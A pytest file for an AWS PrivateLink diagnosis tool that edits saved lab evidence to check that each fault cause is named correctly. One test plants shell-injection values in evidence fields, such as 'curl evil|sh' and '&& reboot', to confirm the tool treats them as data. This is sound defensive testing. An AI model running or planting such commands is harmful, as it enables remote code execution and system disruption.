"""Each cause on saved evidence: a healthy lab's file is changed as AWS or a person would have changed it."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from support.broken_lab import BrokenLab
from support.cloud import Cloud
from support.command_line import Run
from support.why_cases import CASES as LOCAL

from privatelink_lab.why import CAUSES
from privatelink_lab.why.cause import Stage, Stops

Data = dict[str, Any]
OTHER = "333333333333"
PUBLIC = "eu-west-1"


@dataclass(frozen=True)
class Case:
    """What is changed in the evidence, and the code that `why` then names first."""

    code: str
    change: Callable[[Data], object]
    exact: bool = True  # no other cause stands beside it


def rows(data: Data, kind: str) -> list[Data]:
    """The rows of a kind; both sides have one account."""
    found: list[Data] = data["halves"][0]["rows"].setdefault(kind, [])
    return found


def one(data: Data, kind: str) -> Data:
    """The first row of a kind."""
    return rows(data, kind)[0]


def add(kind: str, **row: Any) -> Callable[[Data], object]:
    """One more row."""
    return lambda data: rows(data, kind).append(row)


def put(kind: str, **values: Any) -> Callable[[Data], object]:
    """Other values in the first row."""
    return lambda data: one(data, kind).update(values)


def saw(word: str) -> Callable[[Data], object]:
    """What a probe or a person saw."""
    return add("probes", VpcEndpointId="", saw=word, detail=word)


def refused(operation: str, code: str, message: str = "") -> Callable[[Data], object]:
    """A call of acme that AWS refused; there is no endpoint."""
    row = {"consumer": "acme", "operation": operation, "code": code, "message": message}
    return both(no_endpoint, add("refusals", **row))


def no_endpoint(data: Data) -> None:
    """Acme has no endpoint."""
    request = data["requests"][0]
    subnets = one(data, "endpoints")["SubnetIds"]
    request.update(vpc=one(data, "endpoints")["VpcId"], endpoint="", subnets=subnets)
    data["halves"][0]["rows"].update(endpoints=[], connections=[])


def both(*changes: Callable[[Data], object]) -> Callable[[Data], object]:
    """Several changes."""

    def change(data: Data) -> None:
        for one_change in changes:
            one_change(data)

    return change


def state(word: str, **values: Any) -> Callable[[Data], object]:
    """The endpoint's state, as both sides see it."""
    return both(put("endpoints", State=word, **values), put("connections", VpcEndpointState=word))


def from_account(data: Data) -> None:
    """Acme is another account; its half was not asked."""
    data["requests"][0].update(account=OTHER)
    if rows(data, "connections"):
        one(data, "connections").update(VpcEndpointOwner=OTHER)


def in_region(data: Data) -> None:
    """Acme asks from another Region; that half was not asked."""
    no_endpoint(data)
    data["requests"][0].update(region=PUBLIC)


def attribute(kind: str, key: str, value: str) -> Callable[[Data], object]:
    """An attribute of a balancer or a target group."""

    def change(data: Data) -> None:
        kept = [pair for pair in one(data, kind).get("Attributes", []) if pair["Key"] != key]
        one(data, kind)["Attributes"] = [*kept, {"Key": key, "Value": value}]

    return change


def health(word: str, reason: str = "") -> Callable[[Data], object]:
    """The health of the target."""
    return put("targets", TargetHealth={"State": word, "Reason": reason})


def closed_acl(kind: str) -> Callable[[Data], object]:
    """The network ACL of a VPC denies the answers."""

    def change(data: Data) -> None:
        vpc = one(data, kind)["VpcId"]
        acl = next(row for row in rows(data, "acls") if row["VpcId"] == vpc)
        deny = {"Egress": True, "RuleNumber": 1, "Protocol": "6", "RuleAction": "deny", "CidrBlock": "0.0.0.0/0"}
        acl["Entries"].insert(0, deny | {"PortRange": {"From": 1024, "To": 65535}})
        subnets = [row["SubnetId"] for row in rows(data, "subnets") if row["VpcId"] == vpc]
        acl["Associations"] = [{"SubnetId": id_} for id_ in subnets]

    return change


def groups_of_balancer(data: Data) -> None:
    """The balancer has a group that admits nobody, and lets everything out."""
    out = [{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
    rows(data, "groups").append({"GroupId": "sg-nlb", "IpPermissions": [], "IpPermissionsEgress": out})
    one(data, "balancers")["SecurityGroups"] = ["sg-nlb"]


def closed_out(data: Data) -> None:
    """The balancer's group admits everybody, and lets nothing out."""
    groups_of_balancer(data)
    group = rows(data, "groups")[-1]
    group.update(IpPermissions=group["IpPermissionsEgress"], IpPermissionsEgress=[])


def client(**values: Any) -> Callable[[Data], object]:
    """An instance that asks."""

    def change(data: Data) -> None:
        row = {"InstanceId": "i-client", "VpcId": one(data, "endpoints")["VpcId"], "PrivateIpAddress": "10.9.9.9"}
        rows(data, "clients").append(row | values)

    return change


def answered(data: Data) -> None:
    """CloudWatch has connections of the endpoint, and no reset."""
    for name, number in (("NewConnections", 7), ("RstPacketsSent", 0)):
        rows(data, "metrics").append({"Name": name, "VpcEndpointId": data["requests"][0]["endpoint"], "Sum": number})


def silent_client(data: Data) -> None:
    """A client whose group lets nothing out."""
    rows(data, "groups").append({"GroupId": "sg-mute", "IpPermissions": [], "IpPermissionsEgress": []})
    client(SecurityGroups=[{"GroupId": "sg-mute"}])(data)


def names_a_group(data: Data) -> None:
    """The endpoint's group admits the members of another group, and the client is in another VPC."""
    id_ = one(data, "endpoints")["Groups"][0]["GroupId"]
    group = next(row for row in rows(data, "groups") if row["GroupId"] == id_)
    pair = {"GroupId": "sg-clients"}
    group["IpPermissions"] = [{"IpProtocol": "tcp", "FromPort": 80, "ToPort": 80, "UserIdGroupPairs": [pair]}]
    client(VpcId="vpc-elsewhere")(data)


def another_balancer(data: Data) -> None:
    """A second balancer that listens on another port."""
    row = copy.deepcopy(one(data, "balancers")) | {"LoadBalancerArn": "arn:other", "LoadBalancerName": "other"}
    rows(data, "balancers").append(row)
    one(data, "services")["NetworkLoadBalancerArns"].append("arn:other")
    rows(data, "listeners").append(
        {"ListenerArn": "arn:l2", "LoadBalancerArn": "arn:other", "Port": 81, "Protocol": "TCP"}
    )


def many_listeners(data: Data) -> None:
    """Fifty more listeners."""
    arn = one(data, "balancers")["LoadBalancerArn"]
    for port in range(1000, 1050):
        row = {"ListenerArn": f"arn:{port}", "LoadBalancerArn": arn, "Port": port, "Protocol": "TCP"}
        rows(data, "listeners").append(row)


def shift(data: Data) -> None:
    """A zonal shift away from the endpoint's zone."""
    subnet = next(r for r in rows(data, "subnets") if r["SubnetId"] in one(data, "endpoints")["SubnetIds"])
    row = {"zonalShiftId": "zs-1", "resourceIdentifier": one(data, "balancers")["LoadBalancerArn"], "status": "ACTIVE"}
    rows(data, "zonal_shifts").append(row | {"awayFrom": subnet["AvailabilityZoneId"]})


def zone_of(data: Data) -> Data:
    """The subnet of the endpoint, or of the request."""
    ids = [*data["requests"][0]["subnets"], *(id_ for row in rows(data, "endpoints") for id_ in row["SubnetIds"])]
    return next(row for row in rows(data, "subnets") if row["SubnetId"] in ids)


def more_endpoints(data: Data) -> None:
    """Fifty interface endpoints in the VPC, and acme has none."""
    vpc = one(data, "endpoints")["VpcId"]
    no_endpoint(data)
    for number in range(50):
        row = {"VpcEndpointId": f"vpce-{number}", "VpcId": vpc, "VpcEndpointType": "Interface", "ServiceName": "other"}
        rows(data, "endpoints").append(row)


def second_subnet(data: Data) -> None:
    """A request with two subnets of one zone."""
    no_endpoint(data)
    twin = dict(zone_of(data)) | {"SubnetId": "subnet-twin"}
    rows(data, "subnets").append(twin)
    data["requests"][0]["subnets"].append("subnet-twin")


def vanished(data: Data) -> None:
    """The provider has no row of the endpoint."""
    data["halves"][0]["rows"]["connections"] = []


def offered_elsewhere(data: Data) -> None:
    """The service is offered in the Region of the request, which does not name the service's Region."""
    in_region(data)
    one(data, "services")["SupportedRegions"] = [{"Region": PUBLIC, "ServiceState": "Available"}]
    rows(data, "refusals").append({"consumer": "acme", "operation": "CreateVpcEndpoint", "code": "InvalidServiceName"})


def in_elsewhere(data: Data) -> None:
    """The server is in another VPC than its target group."""
    one(data, "instances")["VpcId"] = "vpc-peer"


def unseen(why: str) -> Callable[[Data], object]:
    """AWS did not show the connections."""

    def change(data: Data) -> None:
        half = data["halves"][0]
        half["rows"].pop("permissions")
        half["unseen"]["permissions"] = why

    return change


def allowed_role(data: Data) -> None:
    """The service allows one role of that account."""
    rows(data, "permissions").append({"Principal": f"arn:aws:iam::{OTHER}:role/ci"})


def allowed_organization(data: Data) -> None:
    """The service allows a part of an organization, whose accounts plab does not know."""
    row = {"Principal": "arn:aws:organizations::1:ou/o-1/ou-2", "ServiceId": one(data, "services")["ServiceId"]}
    rows(data, "permissions").append(row)


def offers_ipv4(data: Data) -> None:
    """The service offers IPv4 only."""
    one(data, "services")["SupportedIpAddressTypes"] = ["ipv4"]


def of_vpc(**values: Any) -> Callable[[Data], object]:
    """Other values in acme's VPC."""

    def change(data: Data) -> None:
        vpc = one(data, "endpoints")["VpcId"]
        next(row for row in rows(data, "vpcs") if row["VpcId"] == vpc).update(values)

    return change


def twin(data: Data) -> None:
    """A second endpoint to the service."""
    rows(data, "endpoints").append(dict(one(data, "endpoints")) | {"VpcEndpointId": "vpce-twin"})


def no_service(data: Data) -> None:
    """The service is not there any more."""
    data["halves"][0]["rows"].update(services=[], connections=[], permissions=[])
    data["service"] = ""


def zone_that_covers(data: Data) -> None:
    """A private hosted zone that covers the endpoint's name."""
    name = one(data, "endpoints")["DnsEntries"][0]["DnsName"].partition(".")[2]
    rows(data, "hosted_zones").append({"HostedZoneId": "Z1", "Name": f"{name}."})


def cross_region(data: Data) -> None:
    """Acme asks from another Region, and the balancer does not cross zones."""
    data["requests"][0]["region"] = PUBLIC
    one(data, "services")["SupportedRegions"] = [{"Region": PUBLIC, "ServiceState": "Available"}]
    attribute("balancers", "load_balancing.cross_zone.enabled", "false")(data)


REMOTE = "the following availability zones are supported for remote access"
CONFLICT = "There is already a conflicting DNS domain in the VPC"
SERVERS = {"Key": "domain-name-servers", "Values": [{"Value": "10.0.0.53"}]}
OWN_DNS: Data = {"DhcpOptionsId": "dopt-own", "DhcpConfigurations": [SERVERS]}
EVIDENCE = [
    Case("not-permitted", both(from_account, no_endpoint)),
    Case("role-principal-mismatch", both(from_account, no_endpoint, allowed_role)),
    Case("service-region-missing", offered_elsewhere),
    Case("region-not-offered", in_region),
    Case("zone-not-served", both(no_endpoint, lambda data: zone_of(data).update(AvailabilityZoneId="use1-az5"))),
    Case("zone-not-remote", refused("CreateVpcEndpoint", "InvalidParameter", f"Only ... {REMOTE}: use1-az1")),
    Case("service-zones-stale", both(no_endpoint, put("services", AvailabilityZoneIds=["use1-az6"]))),
    Case("two-subnets-one-zone", second_subnet),
    Case("ip-type-mismatch", both(put("endpoints", IpAddressType="ipv6"), offers_ipv4)),
    Case("endpoint-quota", more_endpoints),
    Case("subnet-full", both(no_endpoint, lambda data: zone_of(data).update(AvailableIpAddressCount=0))),
    Case("throttled", unseen("RequestLimitExceeded: slow down")),
    Case("service-too-new", refused("CreateVpcEndpoint", "Unavailable", "The service is not available yet")),
    Case("denied-by-policy", refused("CreateVpcEndpoint", "UnauthorizedOperation", "an SCP")),
    Case("vpc-dns-off", put("vpc_dns", EnableDnsSupport=False)),
    Case("vpc-dns-off", both(put("endpoints", PrivateDnsEnabled=True), put("vpc_dns", EnableDnsHostnames=False))),
    Case("private-dns-not-offered", lambda data: data["requests"][0].update(private_dns=True)),
    Case("private-dns-unverified", put("services", PrivateDnsNameConfiguration={"State": "pendingVerification"})),
    Case("private-dns-conflict", refused("CreateVpcEndpoint", "InvalidParameter", CONFLICT)),
    Case("wrong-type", put("endpoints", VpcEndpointType="Gateway")),
    Case("duplicate-request", twin, exact=False),
    Case("waiting-for-acceptance", state("pendingAcceptance")),
    Case("accepted-not-yet-available", state("pending")),
    Case("rejected", state("rejected")),
    Case("expired", state("expired")),
    Case("failed", state("failed", LastError={"Message": "no capacity"})),
    Case("partial", state("partial")),
    Case("no-interfaces", put("endpoints", NetworkInterfaceIds=[])),
    Case("service-gone", both(state("rejected"), no_service)),
    Case("no-such-request", vanished),
    Case("wrong-owner", put("connections", VpcEndpointOwner=OTHER), exact=False),
    Case("admitted-by-aws-not-by-application", saw("reset-at-once")),
    Case("endpoint-group-source-is-foreign", names_a_group),
    Case("client-egress-closed", silent_client),
    Case("consumer-acl", closed_acl("endpoints")),
    Case("client-elsewhere", client(VpcId="vpc-elsewhere")),
    Case("own-dns-servers", both(add("dhcp_options", **OWN_DNS), of_vpc(DhcpOptionsId="dopt-own"))),
    Case("shadow-zone", zone_that_covers),
    Case("resolves-elsewhere", saw("other-address")),
    Case("tls-name", saw("tls-name")),
    Case("enabling-private-dns-broke-others", saw("all-stopped-at-once")),
    Case("balancer-group-enforced", groups_of_balancer),
    Case("balancer-egress-closed", both(closed_out, health("unhealthy", "Target.FailedHealthChecks"))),
    Case("listener-protocol", put("listeners", Protocol="UDP")),
    Case("cross-region-without-cross-zone", cross_region),
    Case("target-unhealthy", health("unhealthy", "Target.FailedHealthChecks")),
    Case("server-on-localhost", both(saw("localhost"), health("unhealthy", "Target.FailedHealthChecks"))),
    Case("fail-open", both(health("unhealthy", "Target.FailedHealthChecks"), saw("answers"))),
    Case("proxy-protocol-mismatch", attribute("target_groups", "proxy_protocol_v2.enabled", "true")),
    Case("provider-acl", both(closed_acl("balancers"), health("unhealthy", "Target.FailedHealthChecks"))),
    Case("peered-target-by-instance", in_elsewhere),
    Case("hairpin", saw("own-target")),
    Case("balancer-not-active", put("balancers", State={"Code": "provisioning"})),
    Case("service-unavailable", put("services", ServiceState="Pending")),
    Case("balancers-differ", another_balancer),
    Case("too-many-listeners", many_listeners),
    Case("zone-taken-away", shift),
    Case("fail-open", both(health("unhealthy", "Target.FailedHealthChecks"), answered)),
    Case("port-exhaustion", add("metrics", Name="PortAllocationErrorCount", Sum=3)),
    Case("idle-timeout", saw("idle")),
    Case("large-packets", saw("large-hang")),
    Case("bandwidth", saw("slow")),
    Case("acceptance-switched", both(state("pendingAcceptance"), put("services", AcceptanceRequired=False))),
    Case("endpoint-addresses-changed", saw("old-address")),
    Case("credentials-expired-midway", unseen("The AWS credentials have expired (ExpiredToken)")),
    Case("region-not-opted-in", add("account_regions", RegionName="us-east-1", RegionOptStatus="DISABLED")),
    Case("region-not-eligible", refused("ModifyVpcEndpointServiceConfiguration", "InvalidParameter", "Region ...")),
    Case("ping-is-no-test", saw("ping")),
]


@pytest.fixture(scope="module")
def healthy() -> list[str]:
    """The saved evidence of a healthy lab, once for all cases; the first test fills it."""
    return []


@pytest.fixture
def saved(healthy: list[str], at_cloud: Cloud, run: Run, tmp_path: Path) -> Data:
    """That evidence as data."""
    if not healthy:
        lab = BrokenLab(at_cloud, run, tmp_path)
        assert lab.up().code == 0
        assert run("why", "--save", "healthy.json").code == 0
        healthy.append((tmp_path / "healthy.json").read_text())
    data: Data = json.loads(healthy[0])
    data["at"] = "2999-01-01T00:00:00Z"  # the endpoint is no longer new
    return data


@pytest.mark.parametrize("case", EVIDENCE, ids=[f"{number}-{case.code}" for number, case in enumerate(EVIDENCE)])
def test_it_is_named_first(saved: Data, run: Run, tmp_path: Path, case: Case) -> None:
    """`plab why --from FILE` names it without AWS, and names nothing that only follows from it."""
    case.change(saved)
    for row in saved["halves"][0]["rows"].get("permissions", []):
        row["ServiceId"] = one(saved, "services")["ServiceId"]
    (tmp_path / "broken.json").write_text(json.dumps(saved))
    ran = run("why", "acme", "--from", "broken.json", "--json")
    [path] = ran.json[0]["paths"][:1]
    assert path["code"] == case.code, path
    assert not case.exact or path["also"] == [], path["also"]
    cause = next(cause for cause in CAUSES if cause.code == case.code)
    assert not cause.waits or path["by_hand"].split()[2].startswith("describe-"), path["by_hand"]
    assert ran.code == 1
    assert run("why", "acme", "--from", "broken.json").code == 1


def test_every_cause_is_tested() -> None:
    """Each code of the table has a case: on a local AWS, or on evidence."""
    tested = {case.code for case in EVIDENCE} | {case.code for case in LOCAL}
    assert tested == {cause.code for cause in CAUSES}


def test_the_table() -> None:
    """Numbers and codes are there once; what is implied exists; each row has its words and its page."""
    assert [cause.number for cause in CAUSES] == list(range(1, 78))
    codes = {cause.code for cause in CAUSES}
    assert len(codes) == len(CAUSES)
    for cause in CAUSES:
        assert cause.implies <= codes - {cause.code}
        assert cause.stage in Stage
        assert cause.stops in Stops
        assert set(cause.side.split()) <= {"P", "C", "X"}
        assert cause.page.startswith("https://")
        assert cause.sentence.endswith(".")
        assert cause.cure.endswith(".")
        assert cause.looks
        assert cause.console


HEALTHY: dict[str, Callable[[Data], object]] = {  # what real AWS shows of setups that work
    "another listener for UDP": lambda data: rows(data, "listeners").append(
        dict(one(data, "listeners")) | {"ListenerArn": "arn:udp", "Port": 514, "Protocol": "UDP"}
    ),
    "a target that leaves while another one is well": lambda data: rows(data, "targets").append(
        dict(one(data, "targets")) | {"Target": {"Id": "i-old", "Port": 80}, "TargetHealth": {"State": "draining"}}
    ),
    "an organization may ask": both(from_account, no_endpoint, allowed_organization),
    "a strict ACL beside a healthy target": closed_acl("balancers"),
    "a balancer that keeps to its zones, and a target group that does not": both(
        attribute("balancers", "load_balancing.cross_zone.enabled", "false"),
        attribute("target_groups", "load_balancing.cross_zone.enabled", "true"),
    ),
}


@pytest.mark.parametrize("name", HEALTHY)
def test_no_false_alarm(saved: Data, run: Run, tmp_path: Path, name: str) -> None:
    """A setup that works has no proved cause that stops packets."""
    HEALTHY[name](saved)
    (tmp_path / "well.json").write_text(json.dumps(saved))
    [path] = run("why", "acme", "--from", "well.json", "--json").json[0]["paths"][:1]
    assert path["code"] is None or path["stops"] == "nothing", path


@pytest.mark.parametrize(
    "change",
    [
        put("services", ServiceId="vpce-svc-0; curl evil|sh"),
        lambda data: data["requests"][0].update(region="us-east-1 && reboot"),
        lambda data: data.update(schema=2),
        lambda data: data["halves"].append(1),
        lambda data: data.pop("requests"),
    ],
)
def test_a_file_of_a_stranger_is_data(saved: Data, run: Run, tmp_path: Path, change: Callable[[Data], object]) -> None:
    """A file whose ids are commands, or that is no evidence: exit 2, and no command of it is printed."""
    change(saved)
    (tmp_path / "theirs.json").write_text(json.dumps(saved))
    ran = run("why", "acme", "--from", "theirs.json")
    assert ran.code == 2
    assert ran.out == ""


def test_a_sick_server_that_is_not_the_labs(saved: Data, run: Run, tmp_path: Path) -> None:
    """The lab's own server is well: the command takes the other one out of the group, and replaces nothing."""
    mine, target = one(saved, "instances"), one(saved, "targets")
    rows(saved, "instances").append(mine | {"InstanceId": "i-0123", "Tags": []})
    sick = {"Target": {"Id": "i-0123", "Port": 80}, "TargetHealth": {"State": "unhealthy"}}
    rows(saved, "targets").append(target | sick)
    (tmp_path / "sick.json").write_text(json.dumps(saved))
    [path] = run("why", "acme", "--from", "sick.json", "--json").json[0]["paths"][:1]
    assert (path["code"], path["stops"], path["fix"]) == ("target-unhealthy", "nothing", "")
    assert path["by_hand"].split()[:3] == ["aws", "elbv2", "deregister-targets"]
    assert "--targets Id=i-0123,Port=80" in path["by_hand"]


def test_a_stranger_who_waits(saved: Data, run: Run, tmp_path: Path) -> None:
    """Nothing that is printed admits an account that the config does not name."""
    state("pendingAcceptance")(saved)
    saved["requests"][0].update(name="", named=False, account=OTHER)
    one(saved, "connections").update(VpcEndpointOwner=OTHER)
    (tmp_path / "stranger.json").write_text(json.dumps(saved))
    ran = run("why", OTHER, "--from", "stranger.json")
    assert "Find out whose account it is" in ran.out
    assert "accept" not in ran.out.replace("acceptance", "").replace("pendingAcceptance", "")
    assert "no principal is of account 333333333333" in ran.out
